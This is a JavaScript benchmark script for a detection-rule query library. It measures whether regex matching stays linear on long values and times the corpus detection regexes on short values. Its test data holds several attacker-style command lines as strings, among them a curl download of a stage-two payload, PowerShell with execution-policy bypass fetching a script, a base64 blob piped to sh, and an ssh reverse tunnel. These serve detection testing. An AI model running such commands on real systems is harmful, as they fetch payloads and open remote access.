/**
 * `node bench/regex.mjs`: the cost of `regex` against the length of the value, through the built
 * library (`compile(query).matches(event)`), to show matching is linear.
 *
 *   1. Long values: patterns that make a backtracking engine blow up (`(a+)+b`, `(a|aa)*c`, `(a*)*b`,
 *      `.*.*.*=.*`), a complement and intersection, and the two regexes of the corpus rule
 *      execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter, each over values of
 *      doubling length (64 KB to 1 MB by default). Per size: median time with min–max over the rounds,
 *      and the ratio to the previous size (about 2 is linear, about 4 quadratic).
 *   2. Short values: every distinct regex of the corpus over a few ~100-byte values, as a rule engine
 *      meets them; ns per value through mini-eql, through a mini-eql query that only reads the field
 *      (the query overhead), and through the JavaScript RegExp `^(?:pattern)$` (what the engine used
 *      before, for patterns whose Lucene and JavaScript readings agree).
 *
 * Times are CPU time of this process (`process.cpuUsage()`), which moves far less than wall time
 * when the machine is shared.
 *
 * Options: --rounds N (5), --min-kb N (64), --max-kb N (1024), --short-rounds N (7).
 * The corpus path is $MINI_EQL_CORPUS or ../shared/corpus/detection-rules-eql.jsonl from the repo root;
 * without it, the corpus patterns are skipped. Exit 2 without a build.
 */
import { existsSync, readFileSync } from "node:fs";
import { dirname, resolve } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { intOption } from "./args.mjs";

const here = dirname(fileURLToPath(import.meta.url));
const root = resolve(here, "..");
const dist = resolve(root, "dist/index.js");
if (!existsSync(dist)) {
  console.error("run npm run build first");
  process.exit(2);
}
const { compile, parse } = await import(pathToFileURL(dist).href);

const argv = process.argv.slice(2);
const ROUNDS = intOption(argv, "--rounds", 5);
const MIN_KB = intOption(argv, "--min-kb", 64);
const MAX_KB = intOption(argv, "--max-kb", 1024);
const SHORT_ROUNDS = intOption(argv, "--short-rounds", 7);

const median = (xs) => {
  const s = [...xs].sort((a, b) => a - b);
  const m = s.length >> 1;
  return s.length % 2 ? s[m] : (s[m - 1] + s[m]) / 2;
};
const ms = (x) => (x < 10 ? x.toFixed(2) : x.toFixed(1));
/** CPU time used so far, in ms. */
const cpuMs = () => {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
};

/** A query testing field `f` against one pattern; raw strings keep backslashes as written. */
function regexQuery(pattern, insensitive) {
  if (pattern.includes('"""')) throw new Error(`cannot quote ${pattern}`);
  return compile(`any where f regex${insensitive ? "~" : ""} """${pattern}"""`);
}

// ---------- corpus patterns ----------

const corpusPath = process.env.MINI_EQL_CORPUS
  ? resolve(process.env.MINI_EQL_CORPUS)
  : resolve(root, "../shared/corpus/detection-rules-eql.jsonl");

/** Every `regex` pattern of the corpus as { rule, pattern, insensitive }. */
function corpusRegexes() {
  if (!existsSync(corpusPath)) return null;
  const found = [];
  const walk = (node, rule) => {
    if (Array.isArray(node)) {
      for (const x of node) walk(x, rule);
    } else if (node && typeof node === "object") {
      if (node.kind === "match" && node.op === "regex") {
        for (const p of node.patterns) found.push({ rule, pattern: p.value, insensitive: node.insensitive });
      }
      for (const key of Object.keys(node)) if (key !== "span") walk(node[key], rule);
    }
  };
  for (const line of readFileSync(corpusPath, "utf8").split("\n")) {
    if (line.trim() === "") continue;
    const rule = JSON.parse(line);
    try {
      walk(parse(rule.query), rule.path);
    } catch {
      // A rule that does not parse has no pattern to time.
    }
  }
  return found;
}

const corpus = corpusRegexes();

// ---------- 1. long values ----------

const cases = [
  { name: "(a+)+b", pattern: "(a+)+b", value: (n) => "a".repeat(n) },
  { name: "(a|aa)*c", pattern: "(a|aa)*c", value: (n) => "a".repeat(n) },
  { name: "(a*)*b", pattern: "(a*)*b", value: (n) => "a".repeat(n) },
  { name: ".*.*.*=.*", pattern: ".*.*.*=.*", value: (n) => "a".repeat(n) },
  // No "ab" and a final c: the whole value must be read.
  { name: "~(.*ab.*)&.*c", pattern: "~(.*ab.*)&.*c", value: (n) => `${"b".repeat(n - 1)}c` },
];
if (corpus) {
  const rule = "execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter";
  const own = corpus.filter((c) => c.rule.includes(rule));
  own.forEach((c, i) => {
    // Runs of digits and dots that look like the start of an address or host but never end in `/`.
    const unit = i === 0 ? "1.2.3." : "a.b-";
    cases.push({
      name: `${rule} #${i + 1}`,
      pattern: c.pattern,
      insensitive: c.insensitive,
      value: (n) => `curl ${unit.repeat(Math.ceil(n / unit.length))}`.slice(0, n),
    });
  });
} else {
  console.log(`corpus absent (${corpusPath}): its patterns are skipped`);
}

const sizes = [];
for (let kb = MIN_KB; kb <= MAX_KB; kb *= 2) sizes.push(kb * 1024);

console.log(`long values: median CPU ms over ${ROUNDS} rounds (min–max), ratio to the previous size`);
for (const c of cases) {
  const q = regexQuery(c.pattern, c.insensitive ?? false);
  console.log(`\n${c.name}${c.name === c.pattern ? "" : `  ${c.pattern}`}`);
  let previous = 0;
  for (const n of sizes) {
    // Parsed JSON, as events arrive: a flat string, not a rope from repeat() and slice().
    const event = JSON.parse(JSON.stringify({ f: c.value(n) }));
    let result = q.matches(event);
    for (let w = 0; w < 3; w++) q.matches(event);
    const times = [];
    for (let r = 0; r < ROUNDS; r++) {
      const t0 = cpuMs();
      result = q.matches(event);
      times.push(cpuMs() - t0);
    }
    const m = median(times);
    const ratio = previous > 0 ? (m / previous).toFixed(2) : "";
    console.log(
      `  ${String(n / 1024).padStart(5)} KB  ${ms(m).padStart(7)} ms  (${ms(Math.min(...times))}–${ms(Math.max(...times))})  ${ratio.padStart(5)}  ${result ? "match" : "no match"}`,
    );
    previous = m;
  }
}

// ---------- 2. short values ----------

if (corpus) {
  const values = [
    "/usr/bin/curl -fsSL http://203.0.113.17:8080/payloads/stage2.sh -o /tmp/.cache/stage2.sh --retry 3",
    'C:\\Windows\\System32\\rundll32.exe "C:\\Users\\alice\\AppData\\Local\\Temp\\update.dll",DllRegister',
    "arn:aws:s3:::finance-reports-2024/quarterly/q3/how_to_decrypt_your_files.txt?versionId=3HL4kqtJlcpXroDTD",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command Invoke-WebRequest https://example.top/a.ps1",
    "/bin/bash -c echo aGVsbG8gd29ybGQ= | base64 -d | sh; ssh -R 8080:127.0.0.1:22 user@198.51.100.4",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safe",
  ];
  const events = values.map((f) => ({ f }));
  const distinct = new Map();
  for (const c of corpus) distinct.set(`${c.insensitive ? "~" : " "}${c.pattern}`, c);
  // A query whose matcher decides at once: what reading the field and calling a matcher cost.
  const overhead = regexQuery("@", false);
  const PASSES = 1000;

  /** Median ns per value of each of `fns`, timed in alternating rounds so drift hits them alike. */
  const timeTogether = (fns) => {
    for (const fn of fns) for (let w = 0; w < 500; w++) fn();
    const samples = fns.map(() => []);
    for (let r = 0; r < SHORT_ROUNDS; r++) {
      fns.forEach((fn, j) => {
        const t0 = cpuMs();
        for (let p = 0; p < PASSES; p++) fn();
        samples[j].push(((cpuMs() - t0) * 1e6) / (PASSES * events.length));
      });
    }
    return samples.map(median);
  };
  const viaQuery = (q) => () => {
    let n = 0;
    for (const e of events) if (q.matches(e)) n++;
    return n;
  };

  console.log(
    `\nshort values: ${distinct.size} distinct corpus regexes over ${values.length} values of ~100 bytes, median CPU ns per value`,
  );
  console.log('  "overhead" is the same query with regex "@", decided before reading the value');
  console.log("   mini-eql   overhead  JS RegExp  query ratio  pattern");
  const queryRatios = [];
  const engineRatios = [];
  for (const c of distinct.values()) {
    let js = null;
    // regex~ has no JavaScript equivalent (the i flag also folds ranges): timing only.
    for (const flags of [c.insensitive ? "isu" : "su", c.insensitive ? "is" : "s"]) {
      try {
        js = new RegExp(`^(?:${c.pattern})$`, flags);
        break;
      } catch {
        // Lucene syntax JavaScript does not read in this mode; try the next one.
      }
    }
    if (!js) continue;
    const [ours, overheadNs, theirs] = timeTogether([
      viaQuery(regexQuery(c.pattern, c.insensitive)),
      viaQuery(overhead),
      () => {
        let n = 0;
        for (const v of values) if (js.test(v)) n++;
        return n;
      },
    ]);
    // The same query with the old engine would cost the overhead plus the RegExp.
    const ratio = ours / (overheadNs + theirs);
    queryRatios.push(ratio);
    engineRatios.push(Math.max(ours - overheadNs, 0) / theirs);
    const label = `${c.insensitive ? "~ " : ""}${c.pattern}`;
    console.log(
      `  ${ours.toFixed(0).padStart(9)}  ${overheadNs.toFixed(0).padStart(9)}  ${theirs.toFixed(0).padStart(9)}  ${ratio.toFixed(2).padStart(11)}  ${label.length > 56 ? `${label.slice(0, 53)}...` : label}`,
    );
  }
  const summary = (xs) =>
    `median ${median(xs).toFixed(2)} (${Math.min(...xs).toFixed(2)}–${Math.max(...xs).toFixed(2)})`;
  console.log(`  query ratio, mini-eql over (overhead + JS RegExp): ${summary(queryRatios)}`);
  console.log(`  engine ratio, (mini-eql - overhead) over JS RegExp: ${summary(engineRatios)}`);
}
